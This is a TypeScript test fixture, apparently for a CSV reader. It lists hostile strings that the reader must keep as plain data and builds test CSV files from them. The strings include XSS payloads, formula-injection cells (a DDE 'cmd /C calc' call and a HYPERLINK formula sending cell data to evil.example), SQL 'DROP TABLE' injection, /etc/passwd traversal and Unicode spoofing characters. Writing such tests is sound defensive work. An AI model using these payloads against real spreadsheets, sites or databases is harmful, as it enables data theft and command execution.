import { reads, type CorpusFile } from './corpus-file.ts';

/** Texts that something else might run, hide or turn round. They are data and stay as they are. */
export const hostileTexts: readonly string[] = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '"><svg onload=window.__pwned=1>',
  'javascript:window.__pwned=1',
  '{{constructor.constructor("window.__pwned=1")()}}',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+cmd',
  '-1+cmd',
  '@SUM(1+1)*cmd',
  '＝1+1',
  '＋1+cmd',
  '－1+cmd',
  '＠SUM(A1)',
  "'; DROP TABLE data_1; --",
  '" OR ""="',
  '../../etc/passwd',
  '${7*7} %s %n',
  '\u202Egnp.exe',
  'zero\u200Bwidth\u200D',
  '\u2066isolated\u2069',
  'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307',
];

const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

export const hostileFiles: readonly CorpusFile[] = [
  reads(
    'cells that something might run',
    `id,memo\n${hostileTexts.map((text, index) => `R${index},${quoted(text)}\n`).join('')}`,
    {
      names: ['id', 'memo'],
      kinds: 'text text',
      rows: hostileTexts.map((text, index) => [`R${index}`, text]),
    },
  ),
  reads(
    'cells that begin with a tab and a carriage return before a formula',
    'id,memo\nA,"\t=1+1"\nB,"\r=1+1"\nC,x\n',
    {
      names: ['id', 'memo'],
      kinds: 'text text',
      rows: [
        ['A', '=1+1'],
        ['B', '=1+1'],
        ['C', 'x'],
      ],
    },
  ),
  reads(
    'a file whose name is hostile',
    'id,memo\nA,x\nB,y\n',
    {
      names: ['id', 'memo'],
      kinds: 'text text',
      rows: [
        ['A', 'x'],
        ['B', 'y'],
      ],
    },
    '<img src=x onerror=window.__pwned=1>.csv',
  ),
];
